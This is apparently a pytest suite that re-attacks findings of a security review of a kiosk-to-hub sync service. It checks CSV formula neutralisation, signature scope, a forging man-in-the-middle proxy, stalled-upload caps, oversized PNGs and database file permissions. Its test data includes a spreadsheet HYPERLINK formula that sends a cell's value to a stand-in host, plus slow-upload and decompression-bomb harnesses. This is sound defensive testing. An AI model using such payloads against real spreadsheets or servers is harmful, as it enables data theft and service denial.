"""Issue 10: each finding of the hostile review, attacked again. Every test here performs the attack and
fails without its defence (docs/security.md says what each defence holds against)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import random
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
import zlib

import pytest
import requests
import uvicorn
from PIL import Image
from sqlalchemy import delete
from starlette.applications import Starlette
from starlette.concurrency import run_in_threadpool
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from test_hub_support import (
    ADMIN_TOKEN,
    DEVICE,
    ROOT,
    fill_log,
    post_events,
    rating_payload,
    register,
    signed_headers,
    signed_headers_v1,
    thread_hub,
    wait_until,
)

from commands.cli import main as kiosk_main
from core.photo import MAX_PHOTO_BYTES
from core.signing import ANSWER_SIGNATURE_HEADER, answer_is_genuine
from core.spreadsheet import FORMULA_PREFIXES, safe_cell
from core.store import EventLog
from hub.signature_policy import signature_policy
from hub.storage import HubStore, database_url
from sync.agent import STATUS_KEY, Backoff, SyncAgent
from sync.client import AnswerNotGenuine, HubClient, batch_body, encode_event

FORMULA = 'HYPERLINK("http://x/?"&R2,"查看")'


# --- 1. CSV formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_starting_like_a_formula_is_written_as_text(prefix):
    assert safe_cell(prefix + FORMULA) == "'" + prefix + FORMULA
    assert safe_cell(FORMULA) == FORMULA and safe_cell(5) == 5 and safe_cell(None) is None


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_hub_ratings_csv_neutralises_every_formula_prefix(tmp_path):
    with thread_hub(tmp_path / "hub") as hub:
        secret = register(hub.store)
        with EventLog(tmp_path / "kiosk.db") as log:
            for i, prefix in enumerate(FORMULA_PREFIXES, 1):
                log.append("rating", rating_payload(i, case_no=prefix + FORMULA, satisfaction=1))
            assert post_events(hub.url, secret, log.log_id, list(log.events_after(0))).status_code == 200
        r = requests.get(
            f"{hub.url}/api/v1/ratings?format=csv",
            headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
            timeout=10,
        )
    cells = [row["projectNo"] for row in _csv_rows(r.content.decode("utf-8"))]
    assert cells == ["'" + p + FORMULA for p in FORMULA_PREFIXES]
    # No cell of the export starts a formula, whatever its column.
    for row in _csv_rows(r.content.decode("utf-8")):
        assert not any(v.startswith(FORMULA_PREFIXES) for v in row.values() if v)


# --- 6. signature scope, one 401 body, photos of one's own roster, refusals logged -------------------


def _get(hub, path: str, headers: dict) -> requests.Response:
    return requests.get(f"{hub.url}{path}", headers=headers, timeout=10)


@pytest.fixture
def hub(tmp_path):
    with thread_hub(tmp_path / "hub") as h:
        h.secret = register(h.store)
        yield h


def _roster_with_photo(hub, tmp_path, device: str = DEVICE) -> str:
    """Import a one-person roster with a photo for ``device``; the photo's URL path."""
    Image.new("RGB", (30, 40), (len(device), sum(map(ord, device)) % 256, 0)).save(tmp_path / f"{device}.png")
    (tmp_path / f"{device}.csv").write_text(
        f"card,staff_no,name,title,photo\n0006102437,0371,王,,{device}.png\n"
    )
    command = ["hub", "roster", "import", str(tmp_path / f"{device}.csv"), "--device", device]
    assert kiosk_main([*command, "--db", hub.store.url]) == 0
    return hub.store.roster_for(device).staff[0]["photo_sha256"]


def test_a_captured_get_signature_is_refused_on_any_other_path(hub, tmp_path):
    sha = _roster_with_photo(hub, tmp_path)
    roster = f"/api/v1/devices/{DEVICE}/roster"
    captured = signed_headers(hub.secret, b"", method="GET", target=roster)
    assert _get(hub, roster, captured).status_code == 200
    assert _get(hub, f"/api/v1/photos/{sha}", captured).status_code == 401
    assert _get(hub, roster + "?x=1", captured).status_code == 401
    posted = requests.post(f"{hub.url}/api/v1/events", headers=captured, timeout=10)  # another method
    assert posted.status_code == 401


def test_v1_only_for_a_device_registered_before_v2_until_switched_off(hub, tmp_path):
    roster = f"/api/v1/devices/{DEVICE}/roster"
    assert _get(hub, roster, signed_headers_v1(hub.secret, b"")).status_code == 401  # registered now
    old_secret = register(hub.store, "XHA-OLD")
    with hub.store.engine.begin() as conn:  # what a device registered by 0.1 looks like: no policy row
        conn.execute(delete(signature_policy).where(signature_policy.c.device_id == "XHA-OLD"))
    old_roster = "/api/v1/devices/XHA-OLD/roster"
    assert _get(hub, old_roster, signed_headers_v1(old_secret, b"", "XHA-OLD")).status_code == 200
    assert kiosk_main(["hub", "device", "v1-off", "XHA-OLD", "--db", hub.store.url]) == 0
    assert _get(hub, old_roster, signed_headers_v1(old_secret, b"", "XHA-OLD")).status_code == 401
    v2 = signed_headers(old_secret, b"", "XHA-OLD", method="GET", target=old_roster)
    assert _get(hub, old_roster, v2).status_code == 200


def test_every_401_has_the_same_body_and_the_reason_goes_to_the_log(hub, caplog):
    roster = f"/api/v1/devices/{DEVICE}/roster"
    attempts = {
        "unknown device": signed_headers(hub.secret, b"", "XHA-W99", method="GET", target=roster),
        "wrong v2 signature": signed_headers(b"guess", b"", method="GET", target=roster),
        "timestamp more than": signed_headers(
            hub.secret, b"", timestamp=int(time.time()) - 400, method="GET", target=roster
        ),
        "missing": {},
        "v1 signature from a device that must sign v2": signed_headers_v1(hub.secret, b""),
    }
    with caplog.at_level(logging.WARNING, logger="hub"):
        answers = {why: _get(hub, roster, headers) for why, headers in attempts.items()}
    assert {r.status_code for r in answers.values()} == {401}
    assert len({r.content for r in answers.values()}) == 1  # nothing tells one reason from another
    assert answers["missing"].json() == {"error": "unauthorized"}
    logged = [r.getMessage() for r in caplog.records]
    for why in attempts:
        assert any(why in line for line in logged), why
    assert any("'XHA-W99' refused: unknown device" in line for line in logged)


def test_a_device_gets_only_the_photos_of_its_own_roster(hub, tmp_path, caplog):
    other_secret = register(hub.store, "XHA-W04")
    own_sha = _roster_with_photo(hub, tmp_path, DEVICE)
    other_sha = _roster_with_photo(hub, tmp_path, "XHA-W04")

    def photo(sha: str) -> int:
        path = f"/api/v1/photos/{sha}"
        return _get(
            hub, path, signed_headers(other_secret, b"", "XHA-W04", method="GET", target=path)
        ).status_code

    assert photo(other_sha) == 200
    with caplog.at_level(logging.WARNING, logger="hub"):
        assert photo(own_sha) == 404  # W03's photo, asked for by W04: as if it did not exist
    assert any("XHA-W04 refused: photo not in its roster" in r.getMessage() for r in caplog.records)


# --- 7. the hub's answers are signed; the agent believes no other -------------------------------------


class ForgingProxy:
    """A man in the middle: forwards each request to the hub and rewrites what comes back with
    ``forge(path, status, body, headers) -> (status, body, headers)``."""

    def __init__(self, upstream: str, forge):
        async def relay(request):
            body = await request.body()
            headers = {
                k: v for k, v in request.headers.items() if k.lower() not in ("host", "content-length")
            }
            answer = await run_in_threadpool(
                requests.request,
                request.method,
                upstream + request.url.path + (f"?{request.url.query}" if request.url.query else ""),
                data=body or None,
                headers=headers,
                timeout=10,
            )
            kept = {k: v for k, v in answer.headers.items() if k.lower().startswith("x-kiosk")}
            status, content, out_headers = forge(request.url.path, answer.status_code, answer.content, kept)
            return Response(content, status_code=status, headers=out_headers, media_type="application/json")

        app = Starlette(routes=[Route("/{path:path}", relay, methods=["GET", "POST"])])
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        wait_until(lambda: self.server.started, what="proxy start")
        self.url = f"http://127.0.0.1:{self.server.servers[0].sockets[0].getsockname()[1]}"

    def close(self):
        self.server.should_exit = True
        self.thread.join(10)


def _agent(url: str, secret: bytes, log: EventLog) -> SyncAgent:
    client = HubClient(url, DEVICE, secret, timeout_s=(2, 10))
    return SyncAgent(log, client, backoff=Backoff(base_s=0.01, cap_s=0.05), rng=random.Random(1))


def _acked_999(path, status, body, headers):
    return status, json.dumps({"acked_seq": 999}).encode(), headers  # keeps the genuine signature


def _acked_999_unsigned(path, status, body, headers):
    return status, json.dumps({"acked_seq": 999}).encode(), {}


@pytest.mark.parametrize("forge", [_acked_999, _acked_999_unsigned], ids=["resigned-body", "unsigned"])
def test_a_forged_acked_seq_moves_no_cursor_and_the_agent_says_why(hub, tmp_path, forge):
    proxy = ForgingProxy(hub.url, forge)
    try:
        with EventLog(tmp_path / "kiosk.db") as log:
            fill_log(log, 5)
            agent = _agent(proxy.url, hub.secret, log)
            assert agent.step().kind == "unavailable"
            assert agent.acked_seq == 0  # everything still pending
            status = log.get_state(STATUS_KEY)
            assert status["state"] == "error" and "answer signature" in status["last_error"]
            assert status["pending"] == 5
    finally:
        proxy.close()


def test_a_genuine_answer_moved_to_another_request_is_refused(hub, tmp_path):
    answers = []

    def replay_first(path, status, body, headers):
        answers.append((status, body, headers))
        return answers[0]  # every request gets the first answer, signature and all

    proxy = ForgingProxy(hub.url, replay_first)
    try:
        with EventLog(tmp_path / "kiosk.db") as log:
            fill_log(log, 5)
            client = HubClient(proxy.url, DEVICE, hub.secret)
            client.post_batch(batch_body(DEVICE, log.log_id, []))  # its answer becomes the forger's
            events = [encode_event(e) for e in log.events_after(0)]
            with pytest.raises(AnswerNotGenuine):  # the events' upload answered with that old answer
                client.post_batch(batch_body(DEVICE, log.log_id, events))
    finally:
        proxy.close()


def test_forged_roster_entries_are_not_taken(hub, tmp_path):
    def inject(path, status, body, headers):
        if path.endswith("/roster"):
            staff = [
                {"card": "0006102437", "staff_no": "9999", "name": "冒充", "title": None, "photo_url": None}
            ]
            return 200, json.dumps({"version": "forged", "staff": staff}).encode(), headers
        return status, body, headers

    proxy = ForgingProxy(hub.url, inject)
    try:
        with EventLog(tmp_path / "kiosk.db") as log:
            agent = _agent(proxy.url, hub.secret, log)
            assert not agent.pull_roster()
            assert log.roster() == [] and "answer signature" in log.get_state(STATUS_KEY)["roster_error"]
    finally:
        proxy.close()


def test_the_hub_signs_errors_to_a_device_too(hub):
    body = b'{"device_id": "XHA-W03", "log_id": "x", "events": "no"}'
    headers = signed_headers(hub.secret, body)
    r = requests.post(f"{hub.url}/api/v1/events", data=body, headers=headers, timeout=10)
    assert r.status_code == 400
    given = r.headers[ANSWER_SIGNATURE_HEADER]
    assert answer_is_genuine(hub.secret, headers["X-Kiosk-Signature"], 400, r.content, given)


# --- 3. no body is read for a stranger; body reads are capped ---------------------------------------


def _stalled_upload(url: str, headers: dict, length: int = 1_000_000) -> socket.socket:
    """An upload that sends its headers and a few bytes of a long body, then nothing."""
    host, port = url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=5)
    lines = ["POST /api/v1/events HTTP/1.1", f"Host: {host}", f"Content-Length: {length}"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + b'{"device_id":')
    return sock


def _status_of(sock: socket.socket) -> int:
    head = sock.recv(200)
    return int(head.split(b" ", 2)[1])


def test_an_unknown_device_is_refused_before_its_body_is_read(hub):
    sock = _stalled_upload(hub.url, signed_headers(hub.secret, b"", "XHA-NOBODY"))
    try:
        assert _status_of(sock) == 401  # at once: the hub does not wait for the 1 MB it was promised
    finally:
        sock.close()
    sock = _stalled_upload(hub.url, signed_headers(hub.secret, b"", timestamp=int(time.time()) - 3600))
    try:
        assert _status_of(sock) == 401
    finally:
        sock.close()


def test_stalled_uploads_beyond_the_cap_get_429_and_healthz_still_answers(tmp_path):
    with thread_hub(tmp_path / "capped", max_body_reads=3, body_read_timeout_s=60) as capped:
        secret = register(capped.store)
        stalled = [_stalled_upload(capped.url, signed_headers(secret, b"")) for _ in range(3)]
        try:
            wait_until(lambda: _reads_in_use(capped) == 3, what="three body reads")
            extra = _stalled_upload(capped.url, signed_headers(secret, b""))
            assert _status_of(extra) == 429
            extra.close()
            assert requests.get(f"{capped.url}/healthz", timeout=5).json() == {"ok": True}
        finally:
            for sock in stalled:
                sock.close()


def _reads_in_use(hub) -> int:
    app = hub.server.config.app
    while not hasattr(app, "state"):  # under the test's wrappers, if any
        app = app.app
    return app.state.body_reads.used


def test_a_body_slower_than_the_timeout_is_refused_with_408(tmp_path):
    with thread_hub(tmp_path / "slow", body_read_timeout_s=0.5) as slow:
        secret = register(slow.store)
        sock = _stalled_upload(slow.url, signed_headers(secret, b""))
        try:
            assert _status_of(sock) == 408
            wait_until(lambda: _reads_in_use(slow) == 0, what="the read slot freed")
        finally:
            sock.close()


# --- 9. roster photos ---------------------------------------------------------------------------------


def _png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` x ``height`` pixels: what a decoder reads first."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 16)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.mark.parametrize("side", [20000, 5000])
def test_roster_import_of_a_huge_png_exits_2_with_a_message(tmp_path, side):
    (tmp_path / "huge.png").write_bytes(_png_header(side, side))
    (tmp_path / "roster.csv").write_text("card,staff_no,name,title,photo\n0006102437,0371,王,,huge.png\n")
    out = subprocess.run(
        [sys.executable, "-m", "commands.cli", "hub", "roster", "import", str(tmp_path / "roster.csv")]
        + ["--data", str(tmp_path / "hub")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 2, out.stderr
    assert "Traceback" not in out.stderr and "at most 4096 a side" in out.stderr


def _photo_route(data: bytes) -> Route:
    return Route("/api/v1/photos/{sha}", lambda request: Response(data, media_type="image/png"))


def _roster_route(photo_sha: str) -> Route:
    staff = [
        {
            "card": "0006102437",
            "staff_no": "0371",
            "name": "王",
            "title": None,
            "photo_url": f"/api/v1/photos/{photo_sha}",
        }
    ]
    return Route(
        "/api/v1/devices/{device}/roster", lambda request: JSONResponse({"version": "v1", "staff": staff})
    )


@pytest.mark.parametrize(
    "photo, claimed_sha",
    [
        (b"\x89PNG other bytes", hashlib.sha256(b"the imported photo").hexdigest()),  # swapped photo
        (b"x" * (MAX_PHOTO_BYTES + 1), hashlib.sha256(b"x" * (MAX_PHOTO_BYTES + 1)).hexdigest()),  # too big
    ],
    ids=["sha256-mismatch", "over-the-cap"],
)
def test_the_agent_takes_no_photo_that_is_too_big_or_not_the_one_named(tmp_path, photo, claimed_sha):
    routes = [_roster_route(claimed_sha), _photo_route(photo)]
    with thread_hub(tmp_path / "hub", routes=routes) as hostile, EventLog(tmp_path / "kiosk.db") as log:
        agent = _agent(hostile.url, register(hostile.store), log)
        assert not agent.pull_roster()
        assert log.roster() == []
        assert "photo" in log.get_state(STATUS_KEY)["roster_error"]


# --- 4. the hub's database is private ------------------------------------------------------------------


def _kiosk_with_umask(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "commands.cli", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=lambda: os.umask(0o022),
    )


def test_the_hub_data_directory_is_0700_and_its_database_files_0600_under_umask_022(tmp_path):
    data = tmp_path / "hub-data"
    assert _kiosk_with_umask("hub", "device", "add", "XHA-W03", "--data", str(data)).returncode == 0
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    files = [p for p in data.iterdir() if p.name.startswith("hub.db")]
    assert files and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in files), [
        (p.name, oct(p.stat().st_mode)) for p in files
    ]
    store = HubStore(database_url(data, None))
    try:
        with store.engine.connect():  # WAL mode: the -wal and -shm files exist while a connection is open
            wal = [p for p in data.iterdir() if p.name.startswith("hub.db-")]
            assert wal and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in wal)
    finally:
        store.close()


def test_a_world_readable_database_of_an_older_hub_is_made_0600(tmp_path):
    data = tmp_path / "hub-data"
    assert _kiosk_with_umask("hub", "device", "add", "XHA-W03", "--data", str(data)).returncode == 0
    (data / "hub.db").chmod(0o644)
    assert _kiosk_with_umask("hub", "device", "add", "XHA-W04", "--data", str(data)).returncode == 0
    assert stat.S_IMODE((data / "hub.db").stat().st_mode) == 0o600
